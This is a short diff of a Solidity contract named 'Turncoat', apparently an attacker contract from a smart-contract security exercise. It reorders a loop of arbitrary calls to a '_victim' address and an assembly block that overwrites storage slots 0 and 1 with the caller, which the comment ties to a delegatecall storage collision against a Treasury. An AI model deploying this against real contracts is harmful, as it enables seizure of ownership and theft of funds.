@@ -23,14 +23,14 @@ contract Turncoat {
             emit Paid(msg.value);
             return;
         }
+        for (uint256 i = 0; i < _calls.length; ++i) {
+            (bool success, bytes memory output) = _victim.call(_calls[i]);
+            emit Tried(success, output);
+        }
         // As slot 0 and 1 of whoever runs this code: only a delegatecall would make them the Treasury's.
         assembly {
             sstore(0, caller())
             sstore(1, caller())
-        }
-        for (uint256 i = 0; i < _calls.length; ++i) {
-            (bool success, bytes memory output) = _victim.call(_calls[i]);
-            emit Tried(success, output);
         }
     }
 }
